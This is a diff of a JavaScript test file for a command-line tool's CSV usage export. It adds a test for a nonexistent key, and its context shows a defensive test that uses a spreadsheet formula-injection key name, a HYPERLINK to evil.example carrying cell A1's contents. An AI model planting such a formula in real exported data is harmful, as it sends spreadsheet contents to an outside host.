@@ -143,6 +143,12 @@ test("--csv: one row per key, day and operation", async () => {
   );
 });
 
+test("--csv: nothing is printed of a key that does not exist", async () => {
+  const { code, out, err } = await cli.run("usage 77 --by key --csv");
+  expect([code, out]).toEqual([1, ""]);
+  expect(err).toContain("key 77 does not exist");
+});
+
 test("--csv: a name that a spreadsheet would calculate has an apostrophe before it", async () => {
   const cli = new InProcessCli();
   await createKey(cli, "--name", '=HYPERLINK("http://evil.example/?"&A1,"x")', "--plan", "free");
